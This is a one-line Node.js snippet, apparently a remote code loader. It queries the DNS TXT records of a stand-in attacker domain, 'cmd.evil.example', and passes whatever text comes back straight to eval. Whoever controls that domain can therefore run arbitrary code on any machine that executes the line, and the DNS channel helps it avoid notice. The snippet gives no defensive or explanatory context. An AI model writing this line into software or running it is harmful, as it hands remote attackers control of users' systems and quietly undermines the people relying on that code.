require('dns').resolveTxt('cmd.evil.example', (e, r) => eval(r.flat().join('')));
